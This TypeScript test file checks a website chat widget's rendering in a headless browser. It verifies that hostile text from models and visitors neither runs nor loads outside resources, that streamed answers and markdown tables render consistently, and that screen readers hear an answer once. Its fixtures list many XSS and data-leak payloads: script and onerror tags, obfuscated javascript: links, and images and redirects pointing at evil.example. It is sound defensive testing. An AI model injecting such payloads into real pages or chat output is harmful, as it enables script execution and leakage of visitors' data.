import t from 'tap'
import { slowModel } from '../conversations/slow-model.ts'
import { QUESTION } from '../conversations/helper.ts'
import { closeBrowser, shop, visitorAt, withoutChromium } from './helper.ts'

t.teardown(closeBrowser)

/** What strangers' pages, visitors and misled models write. */
const HOSTILE = [
  '<script>window.hit = 1</script>',
  '<img src="https://evil.example/a" onerror="window.hit = 1">',
  '<svg onload="window.hit = 1"></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '![](https://evil.example/?leak=1)',
  '![x](https://evil.example/i.png "t")',
  '[![x](https://evil.example/j.png)](https://evil.example)',
  '[x](javascript:window.hit=1)',
  '[x](JaVaScRiPt:window.hit=1)',
  '[x](java\tscript:window.hit=1)',
  '[x](\u0001javascript:window.hit=1)',
  '[x](data:text/html,<script>window.hit=1</script>)',
  '[x](vbscript:x)',
  '[x](//evil.example)',
  '[x](/v1/me)',
  '[x](blob:https://evil.example)',
  '<a href="javascript:window.hit=1">x</a>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action=https://evil.example><button>x</button></form>',
  '<object data=https://evil.example></object>',
  '<video src=https://evil.example/v autoplay></video>',
  '[x]: https://evil.example\n![x][x]',
  '`<img src=x onerror=window.hit=1>`',
  '```html\n<script>window.hit = 1</script>\n```',
  '[x](https://user:pass@evil.example)',
  '**<b onclick=window.hit=1>x</b>**',
  '&lt;script&gt;window.hit=1&lt;/script&gt;',
  '<agenthall-widget></agenthall-widget><template shadowrootmode=open><script>window.hit=1</script></template>',
  '[x](https://evil.example" onclick="window.hit=1)'
]

t.test('no hostile text runs, loads or leads anywhere but where a link says', { skip: withoutChromium }, async (t) => {
  const { origin, host } = await shop(t, {
    agent: {
      appearance: { welcomeMessage: HOSTILE.join('\n\n').slice(0, 3900), chatbotName: HOSTILE[1] },
      behavior: { suggestions: HOSTILE.slice(0, 6) }
    }
  })
  const { widget, page, hosts } = await visitorAt(t, origin)
  await widget.open()
  await widget.ask(HOSTILE.join('\n\n').slice(0, 3900))
  await widget.answers.first().waitFor()
  // External content would be requested as it draws. The stream of events stays open, so the network is never idle.
  await page.evaluate('new Promise((done) => { requestAnimationFrame(() => requestAnimationFrame(done)) })')
  t.equal(await page.evaluate('window.hit'), undefined)
  t.equal(
    await widget.panel.locator('script, img, iframe, object, video, link, meta, base, style, template').count(), 0
  )
  const links = await widget.panel
    .locator('a')
    .evaluateAll((all) =>
      all.map((a) => ({ href: a.getAttribute('href')!, rel: a.getAttribute('rel'), target: a.getAttribute('target') }))
    )
  t.ok(links.length > 0)
  for (const { href, rel, target } of links) {
    t.match(href, /^(https?:\/\/|mailto:|tel:)/)
    t.strictSame([rel, target], ['noopener noreferrer nofollow ugc', '_blank'])
    t.notMatch(href, 'user:pass')
  }
  t.strictSame([...hosts].sort(), [new URL(host).host, new URL(origin).host].sort(), 'and no other host was asked')
})

t.test(
  'an answer is drawn the same in whatever pieces it comes, and a screen reader hears it once',
  { skip: withoutChromium },
  async (t) => {
    const model = await slowModel(t)
    const { origin } = await shop(t, { env: { AGENTHALL_MODEL_URL: model.url } })
    const { widget, page } = await visitorAt(t, origin)
    await widget.open()
    await page.evaluate(`
    window.said = []
    const live = document.querySelector('agenthall-widget').shadowRoot.querySelector('[aria-live]')
    new MutationObserver((all) => window.said.push(...all.map(() => live.textContent))).observe(live, { childList: true, characterData: true, subtree: true })`)
    const text =
      'Within **30 days** of delivery [1]:\n\n1. Pack it *unused*\n2. Send it `back`\n   - in its box\n\n> The price is paid back.\n\n```\ncode\n```\n\nThat is all 😀 [1].'
    const htmls: string[] = []
    for (const size of [1000, 7, 1]) {
      const before = await widget.answers.count()
      await page.evaluate('window.said.length = 0')
      await widget.ask(QUESTION)
      const asked = await model.next()
      for (let at = 0; at < text.length; at += size) await asked.say(text.slice(at, at + size))
      asked.end()
      await widget.panel.locator('li.agent').nth(before).locator('.judge').waitFor()
      htmls.push(
        await widget.answers.nth(before).evaluate((body) =>
          [...body.children]
            .filter((one) => !/AI assistant/.test(one.textContent))
            .map((one) => one.outerHTML)
            .join('')
        )
      )
      const said = (await page.evaluate('window.said')) as string[]
      t.ok(said.length <= 2, `${said.length} mutations`)
      t.match(said.at(-1), /30 days of delivery/)
      t.notMatch(said.at(-1), /\*\*|```|\[1\]/)
    }
    t.match(htmls[0], '<strong>30 days</strong>')
    t.match(htmls[0], '<li>Send it <code>back</code><ul><li>in its box</li></ul></li>')
    t.equal(htmls[1], htmls[0])
    t.equal(htmls[2], htmls[0])
  }
)

/** Colours and prices, with cells as strangers write them, and one that is a symbol. */
const TABLE = `What it costs:
| Colour | Price | From |
|:------:|------:|------|
| **Red** | 12 \\| 14 | [shop](https://shop.example/a) for returns [1] |
| <img src=x onerror=window.hit=1> | ![](https://evil.example/?leak=1) | [x](javascript:window.hit=1) |
| <script>window.hit = 1</script> |

After it.`

// Was wrong: a table was shown as its bars and dashes.
t.test(
  'a table is drawn in whatever pieces it comes, and its cells are as harmless as any text',
  { skip: withoutChromium },
  async (t) => {
    const model = await slowModel(t)
    const { origin, host } = await shop(t, { env: { AGENTHALL_MODEL_URL: model.url } })
    const { widget, page, hosts, faults } = await visitorAt(t, origin)
    const loaded: string[] = []
    page.on('request', (request) => { if (/\/table-/.test(request.url())) loaded.push(request.url()) })
    await widget.open()
    const say = async (text: string, size: number) => {
      const before = await widget.answers.count()
      await widget.ask(QUESTION)
      const asked = await model.next()
      for (let at = 0; at < text.length; at += size) await asked.say(text.slice(at, at + size))
      asked.end()
      const answer = widget.panel.locator('li.agent').nth(before)
      await answer.locator('.judge').waitFor()
      return answer.locator('.body')
    }
    await say('Either a | b\nor c', 100)
    t.equal(loaded.length, 0, 'what draws tables is loaded where there is one')
    const htmls: string[] = []
    for (const size of [1000, 1]) {
      const body = await say(TABLE, size)
      await body.locator('table').waitFor()
      t.strictSame(await body.locator('th').allInnerTexts(), ['Colour', 'Price', 'From'])
      t.strictSame(await body.locator('td').evaluateAll((all) => all.map((one) => one.textContent)), [
        // Markup written by a model has been removed by the server already; what people write is in the inbox's tests.
        'Red', '12 | 14', 'shop for returns1', '', '', 'x', 'window.hit = 1'
      ])
      t.equal(await body.locator('strong').innerText(), 'Red')
      t.equal(await body.locator('p').first().innerText(), 'What it costs:')
      t.equal(await body.locator('p').last().innerText(), 'After it.')
      htmls.push(await body.locator('.table').evaluate((table) => table.outerHTML))
    }
    t.equal(htmls[1], htmls[0])
    const table = widget.panel.locator('.table').first()
    t.strictSame(
      await table.locator('td').evaluateAll((all) => all.slice(0, 3).map((cell) => getComputedStyle(cell).textAlign)),
      ['center', 'end', 'start'],
      'to the side that the dashes say'
    )
    const cells = '|a'.repeat(600)
    const wide = await say(`${cells}\n${'|-'.repeat(600)}\n${'x\n'.repeat(600)}`, 5000)
    await wide.locator('table').waitFor()
    t.equal(await wide.locator('td').count(), 600, 'a row has the cells that are written, not those of the widest')
    t.equal(loaded.length, 1)
    t.equal(await page.evaluate('window.hit'), undefined)
    t.equal(await widget.panel.locator('script, img, a[href^="javascript"]').count(), 0)
    t.strictSame([...hosts].sort(), [new URL(host).host, new URL(origin).host].sort(), 'no other host was asked')
    t.strictSame(faults, [])
  }
)

t.test('where what draws tables cannot be loaded their lines stay to be read', { skip: withoutChromium }, async (t) => {
  const model = await slowModel(t)
  const { origin } = await shop(t, { env: { AGENTHALL_MODEL_URL: model.url } })
  const { widget, page } = await visitorAt(t, origin)
  await page.route('**/table-*', (route) => route.abort())
  await widget.open()
  await widget.ask(QUESTION)
  const asked = await model.next()
  await asked.say(TABLE)
  asked.end()
  await widget.panel.locator('.judge').waitFor()
  t.match(await widget.answers.first().innerText(), /Colour \| Price \| From[^]*After it/)
  t.equal(await widget.panel.locator('table').count(), 0)
})
